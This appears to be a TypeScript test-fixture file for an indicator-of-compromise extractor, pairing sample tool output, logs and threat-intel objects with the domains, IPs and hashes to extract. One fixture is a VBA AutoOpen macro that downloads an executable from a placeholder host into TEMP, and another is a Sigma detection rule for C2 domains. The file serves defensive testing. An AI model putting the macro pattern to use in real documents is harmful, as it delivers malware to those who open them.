import { MD5, SHA1, SHA256, type Row } from './case';

/** What programs print and keep: terminals, tools of administrators, packages, settings, dumps. */
export const programs: Row[] = [
  ['@media (min-width: 1.5em) { .btn.active:hover { color: red } .nav.link {} }'],
  ['http://baddomain.net:/x', 'url http://baddomain.net/x'],
  ['mongodb+srv://u:p@c0.abcde.mongodb.net/t', 'domain c0.abcde.mongodb.net'],
  ['magnet:?xt=urn:btih:' + SHA1 + '&dn=x'],
  ['موقع.وزارة-الأتصالات.مصر', 'domain xn--4gbrim.xn----rmckbbajlc6dj7bxne2c.xn--wgbh1c'],
  ['\u001b[31mERROR\u001b[0m connect \u001b[1;33m45.77.12.34\u001b[0m failed', 'ip 45.77.12.34'],
  ['\u001b[32mbaddomain.net\u001b[0m:443', 'domain baddomain.net'],
  [
    {
      host: {
        name: 'web01',
        ip: ['10.0.0.1', 'fe80::1'],
        mac: ['00-11-22-33-44-55'],
        os: { version: '10.0' },
      },
    },
    'skipped domain web01',
    'skipped ip 10.0.0.1',
    'skipped ip fe80::1',
  ],
  [
    'IP 10.0.0.5.49152 > 45.77.12.34.443: Flags [S], seq 1, win 64240',
    'ip 45.77.12.34',
    'skipped ip 10.0.0.5',
  ],
  ['He got a Ph.D.in 1999 and a M.B.A.from Yale'],
  [
    'win32.trojan.agent, Trojan.Win32.Agent.ab, HEUR:Trojan.Script.Generic, Gen:Variant.Razy.123, W97M.Downloader, JS.Nemucod, MSIL.Agent.io',
  ],
  [
    'Backdoor.Linux.Mirai.ba Trojan-Downloader.VBS.Agent.zx Exploit.CVE-2017-11882.Gen UDS:DangerousObject.Multi.Generic',
  ],
  [MD5 + '@baddomain.net'],
  [
    'title: Foo\nid: 3f2504e0-4f89-41d3-9a0c-0305e82c3301\nstatus: test\nreferences:\n    - https://evil-blog.com/post\nlogsource:\n    product: windows\n    service: sysmon\ndetection:\n    selection:\n        EventID: 22\n        QueryName|endswith:\n            - ".ngrok.io"\n            - "evil-c2.top"\n    condition: selection',
    'url https://evil-blog.com/post',
    'domain ngrok.io',
    'domain evil-c2.top',
  ],
  [
    'function FindProxyForURL(url, host) { if (dnsDomainIs(host, ".corp.local") || shExpMatch(host, "*.baddomain.net")) return "PROXY 10.1.1.1:8080; DIRECT"; }',
    'domain baddomain.net',
    'skipped domain corp.local',
    'skipped ip 10.1.1.1',
  ],
  [
    'Offset  Proto  LocalAddr  LocalPort  ForeignAddr  ForeignPort  State  PID  Owner\n0x1 TCPv4 10.0.2.15 49700 91.92.240.17 443 ESTABLISHED 4012 evil.exe\n0x2 UDPv6 fe80::a1b2 1900 * 0  1234 svchost.exe',
    'ip 91.92.240.17',
    'skipped ip 10.0.2.15',
    'skipped ip fe80::a1b2',
  ],
  [
    'Starting Nmap 7.94 ( https://nmap.org ) at 2024-03-01 12:34 CET\nNmap scan report for baddomain.net (91.92.240.17)\nHost is up (0.012s latency).\nrDNS record for 91.92.240.17: vps123.host-sbad.net\nPORT   STATE SERVICE VERSION\n22/tcp open  ssh     OpenSSH 8.2p1 Ubuntu 4ubuntu0.5\n80/tcp open  http    Apache httpd 2.4.41',
    'url https://nmap.org/',
    'domain baddomain.net',
    'ip 91.92.240.17',
    'domain vps123.host-sbad.net',
  ],
  [
    "Certificate:\n    Data:\n        Version: 3 (0x2)\n        Serial Number:\n            04:e1:a2:b3:c4:d5:e6:f7:08:19:2a:3b:4c:5d:6e:7f:80:91\n        Issuer: C = US, O = Let's Encrypt, CN = R3\n        Subject: CN = baddomain.net\n            X509v3 Subject Alternative Name: \n                DNS:*.baddomain.net, DNS:baddomain.net, IP Address:91.92.240.17\n            X509v3 Subject Key Identifier: \n                A1:B2:C3:D4:E5:F6:07:18:29:3A:4B:5C:6D:7E:8F:90:A1:B2:C3:D4\n            CPS: http://cps.letsencrypt.org\n            OCSP - URI:http://r3.o.lencr.org",
    'domain baddomain.net',
    'ip 91.92.240.17',
    'url http://cps.letsencrypt.org/',
    'url http://r3.o.lencr.org/',
  ],
  [
    '# Netscape HTTP Cookie File\n.baddomain.net\tTRUE\t/\tFALSE\t1735689600\tsid\t' + MD5,
    'domain baddomain.net',
  ],
  [
    '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://baddomain.net/</loc></url></urlset>',
    'url https://baddomain.net/',
  ],
  [
    'User-agent: *\nDisallow: /admin.php\nSitemap: https://baddomain.net/sitemap.xml',
    'url https://baddomain.net/sitemap.xml',
  ],
  [
    'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Foo.Bar]\n"Path"="C:\\\\foo\\\\bar.com"\n"Url"="http://baddomain.net/x"',
    'url http://baddomain.net/x',
  ],
  [
    'Sub AutoOpen()\n Dim x As Object\n Set x = CreateObject("MSXML2.XMLHTTP")\n x.Open "GET", "http://baddomain.net/a.exe", False\n x.send\n Set s = CreateObject("ADODB.Stream")\n s.SaveToFile Environ("TEMP") & "\\a.exe", 2\nEnd Sub',
    'url http://baddomain.net/a.exe',
  ],
  [
    'This program cannot be run in DOS mode.\n.text\n.rdata\n.data\nKERNEL32.dll\nGetProcAddress\nMozilla/4.0 (compatible)\nhttp://baddomain.net/g.php\n91.92.240.17\n1.2.3.4.5\nassembly.manifest version="1.0.0.0"\nurlmon.dll',
    'url http://baddomain.net/g.php',
    'ip 91.92.240.17',
  ],
  [
    'version: "3.8"\nservices:\n  web:\n    image: registry.baddomain.net/web:1.2.3\n    ports: ["127.0.0.1:8080:80"]\n    environment:\n      - API=https://api.baddomain.net\n    volumes: ["./a.conf:/etc/nginx/a.conf:ro"]',
    'domain registry.baddomain.net',
    'url https://api.baddomain.net/',
    'skipped ip 127.0.0.1',
  ],
  [
    'found 3 vulnerabilities\naxios  <1.6.0\nSeverity: moderate\nfix available via `npm audit fix`\nnode_modules/axios\nhttps://github.com/advisories/GHSA-wf5p-g6vw-rhxx',
    'url https://github.com/advisories/GHSA-wf5p-g6vw-rhxx',
  ],
  [
    'Collecting flask\n  Downloading https://files.pythonhosted.org/packages/fd/56/ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785/flask-3.0.0-py3-none-any.whl (99 kB)\nSuccessfully installed flask-3.0.0 jinja2-3.1.2 werkzeug-3.0.1',
    'url https://files.pythonhosted.org/packages/fd/56/ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785/flask-3.0.0-py3-none-any.whl',
  ],
  [
    '$ host baddomain.net\nbaddomain.net has address 91.92.240.17\nbaddomain.net mail is handled by 10 mx.baddomain.net.',
    'domain baddomain.net',
    'ip 91.92.240.17',
    'domain mx.baddomain.net',
  ],
  ['Jenkins: Checking out Revision ' + SHA1 + ' (refs/remotes/origin/main)\nCommit message: "Fix foo.bar"'],
  ["GitHub Actions: Download action repository 'actions/checkout@v4' (SHA:" + SHA1 + ')'],
  [
    "make[1]: Entering directory '/src/foo.bar/lib'\ngcc -c -o main.o main.cc\nmain.cc:12:5: warning: unused variable 'x.y'\nld: libfoo.so.1.2.3.4: not found",
  ],
  [
    "WARNING: Retrying after connection broken by NewConnectionError: /simple/flask/ host='pypi.corp.local'",
    'skipped domain pypi.corp.local',
  ],
  [
    '[2024-03-01 12:34:56,789] {scheduler.py:123} INFO - dag_id=my_dag.sub.task run_id=scheduled__2024-03-01T00:00:00+00:00',
  ],
  [
    'Mar 1 12:34:56 pfsense dhcpd: DHCPACK on 192.168.1.50 to 00:11:22:33:44:55 (iPhone.lan) via igb1',
    'skipped ip 192.168.1.50',
    'skipped domain iphone.lan',
  ],
  [
    'unbound: info: 192.168.1.50 baddomain.net. A IN NOERROR 0.012 0 45\npihole: gravity blocked ads.baddomain.net is 0.0.0.0',
    'domain baddomain.net',
    'domain ads.baddomain.net',
    'skipped ip 192.168.1.50',
    'skipped ip 0.0.0.0',
  ],
  [
    'IKE: peer 91.92.240.17[500] id=vpn.baddomain.net cookie=0123456789abcdef:fedcba9876543210',
    'ip 91.92.240.17',
    'domain vpn.baddomain.net',
  ],
  ['bgp: 91.92.240.0/24 via 2001:7f8::1 AS 64500 path 64500 3320 i', 'ip 2001:7f8::1'],
  [
    'Domain Name: BADDOMAIN.NET\nRegistrar URL: http://www.namecheap.com\nName Server: NS1.EVIL-DNS.RU\nName Server: NS2.EVIL-DNS.RU\nDNSSEC: unsigned',
    'domain baddomain.net',
    'url http://www.namecheap.com/',
    'domain ns1.evil-dns.ru',
    'domain ns2.evil-dns.ru',
  ],
  [
    '; <<>> DiG 9.18.12-1-Debian <<>> baddomain.net\n;; ANSWER SECTION:\nbaddomain.net.\t\t300\tIN\tA\t45.77.12.34\n;; SERVER: 192.168.1.1#53(192.168.1.1) (UDP)',
    'domain baddomain.net',
    'ip 45.77.12.34',
    'skipped ip 192.168.1.1',
  ],
  [
    'traceroute to baddomain.net (45.77.12.34), 30 hops max\n 1  fritz.box (192.168.178.1)  1.234 ms\n 2  62.155.1.2 (62.155.1.2)  8.1 ms',
    'domain baddomain.net',
    'ip 45.77.12.34',
    'ip 62.155.1.2',
    'skipped domain fritz.box',
    'skipped ip 192.168.178.1',
  ],
  ['tcp6 0 0 :::22 :::* LISTEN'],
  [
    '* Trying 45.77.12.34:443...\n* Connected to baddomain.net (45.77.12.34) port 443 (#0)\n> GET /x HTTP/1.1\n> Host: baddomain.net\n> User-Agent: curl/7.81.0',
    'ip 45.77.12.34',
    'domain baddomain.net',
  ],
  [
    'nginx: 2024/03/01 12:34:56 [error] 12#12: *1 connect() failed (111: Connection refused) while connecting to upstream, client: 45.77.12.34, server: shop.baddomain.net, request: "GET / HTTP/2.0", upstream: "http://127.0.0.1:8080/", host: "shop.baddomain.net"',
    'ip 45.77.12.34',
    'domain shop.baddomain.net',
    'skipped url http://127.0.0.1:8080/',
  ],
  [
    'pfsense filterlog: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,12345,0,DF,6,tcp,60,45.77.12.34,192.0.2.10,51234,22,0,S',
    'ip 45.77.12.34',
    'skipped ip 192.0.2.10',
  ],
  [
    'mimecast: aCode=abc|acc=C1|Sender=x@baddomain.net|SenderDomain=baddomain.net|IP=45.77.12.34|fileName=a.zip|sha256=' +
      SHA256,
    'domain baddomain.net',
    'ip 45.77.12.34',
    'file ' + SHA256,
  ],
  ['\u001b[36mhttps://baddomain.net/x\u001b[39m', 'url https://baddomain.net/x'],
  ['\u001b]8;;https://baddomain.net/x\u0007link\u001b]8;;\u0007', 'url https://baddomain.net/x'],
  [
    '{TCP} 2a01:04f8:0000:0000:0000:0000:0000:0002:51000 -> 2606:2800:0220:0001:0248:1893:25c8:1946:80',
    'ip 2a01:4f8::2',
    'ip 2606:2800:220:1:248:1893:25c8:1946',
  ],
  [
    '#033[31m45.77.12.34#033[0m and \\u001b[1mbaddomain.com\\u001b[0m',
    'ip 45.77.12.34',
    'domain baddomain.com',
  ],
  ['5.6.7.8.9 is no address'],
];

/** Objects of other tools, which name a value beside it or above it. */
export const objects: Row[] = [
  [{ session_hash: MD5, block_hash: SHA256, tx_hash: SHA256 }],
  [{ 'tls.sni': 'evil.zip', 'tls.server_name': 'bad.mov' }, 'domain evil.zip', 'domain bad.mov'],
  [{ tls_sni: 'evil.zip' }, 'domain evil.zip'],
  [
    {
      observables: [
        { dataType: 'ip', data: '45.77.12.34' },
        { dataType: 'domain', data: 'evil.zip' },
        { dataType: 'hash', data: MD5 },
        { dataType: 'filename', data: 'a.zip' },
      ],
    },
    'ip 45.77.12.34',
    'domain evil.zip',
    'file ' + MD5,
  ],
  [{ indicator: 'evil.zip', indicator_type: 'domain' }, 'domain evil.zip'],
  [{ type: 'domain', indicator: 'evil.zip' }, 'domain evil.zip'],
  [{ ioc_type: 'domain', ioc_value: 'evil.zip' }, 'domain evil.zip'],
  [
    {
      dns: {
        question: { name: 'evil.zip', type: 'A' },
        answers: [{ data: '45.77.12.34', ttl: 60 }],
        resolved_ip: ['45.77.12.34'],
      },
    },
    'domain evil.zip',
    'ip 45.77.12.34',
  ],
  [{ process: { name: 'evil.com', command_line: 'evil.com baddomain.net' } }, 'domain baddomain.net'],
  [
    { headers: { host: 'evil.zip', 'user-agent': 'curl/7.1.2.3', 'x-forwarded-for': '45.77.12.34' } },
    'domain evil.zip',
    'ip 45.77.12.34',
  ],
  [
    {
      log: {
        version: '1.2',
        entries: [
          {
            request: {
              method: 'GET',
              url: 'https://baddomain.net/x?y=1',
              httpVersion: 'HTTP/2.0',
              headers: [
                { name: 'Host', value: 'baddomain.net' },
                { name: 'User-Agent', value: 'Mozilla/5.0 Chrome/120.0.0.0' },
              ],
            },
            serverIPAddress: '91.92.240.17',
          },
        ],
      },
    },
    'url https://baddomain.net/x?y=1',
    'domain baddomain.net',
    'ip 91.92.240.17',
  ],
  [
    {
      objectClassName: 'domain',
      ldhName: 'BADDOMAIN.NET',
      nameservers: [{ ldhName: 'ns1.evil-dns.ru' }],
      links: [{ rel: 'self', href: 'https://rdap.verisign.com/net/v1/domain/BADDOMAIN.NET' }],
    },
    'domain baddomain.net',
    'domain ns1.evil-dns.ru',
    'url https://rdap.verisign.com/net/v1/domain/BADDOMAIN.NET',
  ],
  [
    [
      {
        issuer_ca_id: 1,
        common_name: 'baddomain.net',
        name_value: '*.baddomain.net\nwww.baddomain.net',
        serial_number: '04e1a2b3c4d5e6f708192a3b4c5d6e7f',
      },
    ],
    'domain baddomain.net',
    'domain www.baddomain.net',
  ],
  [
    {
      ioc: '45.77.12.34:4444',
      ioc_type: 'ip:port',
      threat_type: 'botnet_cc',
      malware_printable: 'Cobalt Strike',
    },
    'ip 45.77.12.34',
  ],
  [
    {
      id: '1',
      urlhaus_reference: 'https://urlhaus.abuse.ch/url/1/',
      url: 'http://baddomain.net/bin.sh',
      url_status: 'online',
      tags: ['elf', '32-bit'],
    },
    'url http://baddomain.net/bin.sh',
    'skipped url https://urlhaus.abuse.ch/url/1/',
  ],
  [
    {
      ClientIP: '45.77.12.34',
      UserId: 'bob@corp.com',
      Operation: 'FileDownloaded',
      ObjectId: 'https://corp.sharepoint.com/sites/x/a.zip',
    },
    'ip 45.77.12.34',
    'url https://corp.sharepoint.com/sites/x/a.zip',
  ],
  [
    {
      sourceIPAddress: '45.77.12.34',
      userAgent: 'aws-cli/2.1.0 Python/3.8.8',
      eventSource: 's3.amazonaws.com',
      eventName: 'GetObject',
    },
    'ip 45.77.12.34',
  ],
  [{ agent: { version: '8.11.0.1' }, ecs: { version: '1.6.0' }, '@timestamp': '2024-03-01T12:34:56.789Z' }],
  [{ file: { name: 'evil.zip', path: 'C:\\x\\evil.zip', hash: { md5: MD5 } } }, 'file ' + MD5],
  [
    {
      email: {
        from: { address: 'bob@baddomain.net' },
        attachments: [{ file: { name: 'a.zip', hash: { sha256: SHA256 } } }],
      },
    },
    'file ' + SHA256,
  ],
  [{ answer: '45.77.12.34;evil.zip' }, 'ip 45.77.12.34'],
  [{ 'a.zip': 1, 'event.id': 2, 'file.name': 'x.io' }],
];
